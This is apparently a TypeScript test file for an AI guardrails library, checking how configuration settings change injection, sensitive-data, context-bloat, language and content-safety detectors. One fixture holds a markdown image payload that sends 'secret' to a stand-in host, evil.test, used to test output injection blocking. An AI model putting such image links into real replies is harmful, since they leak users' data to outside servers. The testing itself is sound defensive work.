import type { SensitiveDataPort } from "@toolstile/iorails";
import { input, output } from "./patterns.js";
import { askingOf, content, type Effect, judge, main, status } from "./probe.js";

const image = "![a](https://evil.test/?q=secret)";
const injection: readonly Effect[] = [
  {
    key: "rails.config.injection_detection.injections",
    given: output("injection detection"),
    values: [["xss"], ["template"]],
    replies: { m: image },
    ask: status(),
    sees: ["blocked", "passed"],
  },
  {
    key: "rails.config.injection_detection.action",
    given: output("injection detection", { injection_detection: { injections: ["xss"] } }),
    values: ["omit", "reject"],
    replies: { m: image },
    ask: status(),
    sees: ["modified", "blocked"],
  },
];

/** Finds the text "me" as whatever is asked for, with a score of 0.6, and what a recogniser denies. */
const finder: SensitiveDataPort = {
  scanner: ({ entities, recognizers }) => {
    const words = ["me", ...recognizers.map(({ deny_list }) => String(deny_list))];
    return {
      find: (text) =>
        words.flatMap((word) => {
          const start = text.indexOf(word);
          if (start < 0 || entities.length === 0) return [];
          return [{ entity: String(entities[0]), start, end: start + word.length, score: 0.6 }];
        }),
      reach: 10,
    };
  },
};
const sensitive: readonly Effect[] = [
  ...(["input", "output"] as const).flatMap((direction): readonly Effect[] => {
    const of = direction === "input" ? input : output;
    const section = `rails.config.sensitive_data_detection.${direction}`;
    const mail = "mail to ada@lovelace.dev";
    const ask = direction === "input" ? status(mail) : status();
    const detect = `detect sensitive data on ${direction}`;
    return [
      {
        key: `${section}.entities`,
        given: of(detect),
        values: [["EMAIL_ADDRESS"], ["CREDIT_CARD"]],
        replies: { m: mail },
        ask,
        sees: ["blocked", "passed"],
      },
      {
        key: `${section}.score_threshold`,
        given: of(detect, { sensitive_data_detection: { [direction]: { entities: ["PERSON"] } } }),
        values: [0.5, 0.7],
        replies: { m: "me" },
        options: { sensitiveData: finder },
        ask: status("me"),
        sees: ["blocked", "passed"],
      },
    ];
  }),
  {
    key: "rails.config.sensitive_data_detection.recognizers",
    given: input("detect sensitive data on input", {
      sensitive_data_detection: { input: { entities: ["PERSON"] } },
    }),
    values: [[{ deny_list: ["you"] }], []],
    options: { sensitiveData: finder },
    ask: status("you"),
    sees: ["blocked", "passed"],
  },
];

const prose =
  "The lighthouse keeper walked along the shore at dawn, counting gulls and listening to the bell.";
const bloatFlow = "context bloat detection on input";
const bloat: readonly Effect[] = (
  [
    ["max_chars", {}, [50, 500], prose, ["blocked", "passed"]],
    ["min_chars", {}, [10, 50], "a".repeat(20), ["blocked", "passed"]],
    ["min_entropy", {}, [6, 2], prose, ["blocked", "passed"]],
    ["max_run_ratio", {}, [0.01, 0.5], prose, ["blocked", "passed"]],
    [
      "max_repetition_ratio",
      { max_chars: 10_000 },
      [0.5, 1],
      `${prose} `.repeat(8),
      ["blocked", "passed"],
    ],
    ["ngram_size", { max_repetition_ratio: 0.05 }, [1, 16], prose, ["blocked", "passed"]],
    ["action", { max_chars: 50 }, ["warn", "reject"], prose, ["passed", "blocked"]],
  ] as const
).map(([key, section, values, text, sees]) => ({
  key: `rails.config.context_bloat_detection.${key}`,
  given: input(bloatFlow, { context_bloat_detection: section }),
  values,
  ask: status(text),
  sees,
}));

const languageFlow = "language detector check input";
const spanish = "Hola, ¿cómo estás?";
const mixed = "Good morning to you. Guten Morgen, wie geht es Ihnen heute denn so?";
const language: readonly Effect[] = [
  {
    key: "rails.config.language_detector.allowed_languages",
    given: input(languageFlow),
    values: [["es"], ["en"]],
    ask: status(spanish),
    sees: ["passed", "blocked"],
  },
  {
    key: "rails.config.language_detector.blocked_languages",
    given: input(languageFlow),
    values: [["es"], ["de"]],
    ask: status(spanish),
    sees: ["blocked", "passed"],
  },
  {
    key: "rails.config.language_detector.fail_open",
    given: input(languageFlow),
    values: [true, false],
    ask: status("xyzzy qwfp"),
    sees: ["passed", "blocked"],
  },
  {
    key: "rails.config.language_detector.num_characters_for_prediction",
    given: input(languageFlow),
    values: [20, 1_000],
    ask: status(mixed),
    sees: ["passed", "blocked"],
  },
  {
    key: "rails.config.language_detector.refusal_messages",
    given: input(languageFlow),
    values: [{ es: "No." }, { es: "Nunca." }],
    ask: content(spanish),
    sees: ["No.", "Nunca."],
  },
];

const contentSafety: readonly Effect[] = [
  {
    key: "rails.config.content_safety.reasoning.enabled",
    given: {
      models: [main, judge],
      rails: { input: { flows: ["content safety check input $model=judge"] } },
      prompts: [
        {
          task: "content_safety_check_input $model=judge",
          content: "{% if reasoning_enabled %}think{% endif %}",
          output_parser: "is_content_safe",
        },
      ],
    },
    values: [true, false],
    replies: { j: "safe" },
    ask: askingOf("j", ({ body }) => body.messages[0].content),
    sees: [["think"], [""]],
  },
];

export const detectors: readonly Effect[] = [
  ...injection,
  ...sensitive,
  ...bloat,
  ...language,
  ...contentSafety,
];
